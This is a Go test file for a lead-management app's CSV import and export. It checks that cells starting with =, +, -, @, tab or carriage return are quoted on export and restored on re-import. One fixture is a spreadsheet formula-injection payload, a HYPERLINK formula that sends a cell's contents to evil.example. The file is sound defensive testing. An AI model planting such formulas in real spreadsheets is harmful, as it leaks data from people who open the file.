package imports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"

	"leadflow/internal/dbtest"
	"leadflow/internal/lead"
	"leadflow/internal/leadcsv"
	"leadflow/internal/sqldb"
)

// startsFormula reports whether a spreadsheet would run cell as a formula.
func startsFormula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// TestExportNeutralisesFormulas: a value planted to run in a spreadsheet
// leaves leadflow quoted, in the export and in the rejected rows, and
// both files import back to the very same values: the phone +40 721...
// and the planted formula included.
func TestExportNeutralisesFormulas(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		ctx := context.Background()
		src := newWorld(t, db)
		planted := `=HYPERLINK("http://evil.example/?"&A1,"click")`
		src.importText(t, "seed.csv", "email,first_name,last_name,phone,company,job_title,city\n"+
			"a@x.io,'Quoted,-Minus,+40 721 234 567,\""+strings.ReplaceAll(planted, `"`, `""`)+"\",@SUM(1),\"\tTab\"\n"+
			"b@x.io,Bob,Plain,,Beta,,Cluj\n", nil)
		var export bytes.Buffer
		if n, err := leadcsv.Export(ctx, &export, src.leads, admin, lead.Filter{Sort: "email"}); err != nil || n != 2 {
			t.Fatalf("export %d: %v", n, err)
		}
		rows, err := csv.NewReader(bytes.NewReader(export.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if startsFormula(cell) {
					t.Errorf("export cell %q would run as a formula", cell)
				}
			}
		}
		if !strings.Contains(export.String(), `"'=HYPERLINK(`) || !strings.Contains(export.String(), ",'+40") {
			t.Errorf("export does not quote the formula and the phone:\n%s", export.String())
		}

		dst := newWorld(t, dbtest.SQLite(t))
		im := dst.importText(t, "export.csv", export.String(), nil)
		if im.Created != 2 || im.Rejected != 0 {
			t.Fatalf("import of the export: %+v %v", im, dst.rejects(t, im.ID))
		}
		a, b := src.byEmail(t, "a@x.io"), dst.byEmail(t, "a@x.io")
		if !strings.HasPrefix(a.Phone, "+40") || b.Phone != a.Phone || b.Company != planted || b.FirstName != "'Quoted" ||
			b.LastName != "-Minus" || b.JobTitle != "@SUM(1)" {
			t.Errorf("round trip changed the lead:\nsource %+v\nimport %+v", a, b)
		}

		// Rejected rows: quoted in the download, restored when the fixed
		// file is imported again.
		im = dst.importText(t, "fix-me.csv", "Email,Phone,Company\nnot-an-email,+40 721 234 567,=1+2\n", nil)
		rej := dst.rejects(t, im.ID)
		if len(rej) != 2 || rej[1][1] != "'+40 721 234 567" || rej[1][2] != "'=1+2" {
			t.Fatalf("rejects: %q", rej)
		}
		rej[1][0] = "fixed@x.io"
		var fixed bytes.Buffer
		w := csv.NewWriter(&fixed)
		w.WriteAll(rej)
		im = dst.importText(t, "fixed.csv", fixed.String(), nil)
		if im.Created != 1 {
			t.Fatalf("fixed rejects: %+v %v", im, dst.rejects(t, im.ID))
		}
		if c := dst.byEmail(t, "fixed@x.io"); c.Phone != a.Phone || c.Company != "=1+2" {
			t.Errorf("fixed row came back as phone %q company %q", c.Phone, c.Company)
		}
	})
}

func TestNeutralise(t *testing.T) {
	in := []string{"", "plain", "=1+2", "+40 721", "-5", "@x", "\tx", "\rx", "'x", "''x", "a=b"}
	want := []string{"", "plain", "'=1+2", "'+40 721", "'-5", "'@x", "'\tx", "'\rx", "''x", "'''x", "a=b"}
	if got := leadcsv.NeutraliseAll(in); !reflect.DeepEqual(got, want) {
		t.Errorf("got %q", got)
	}
}
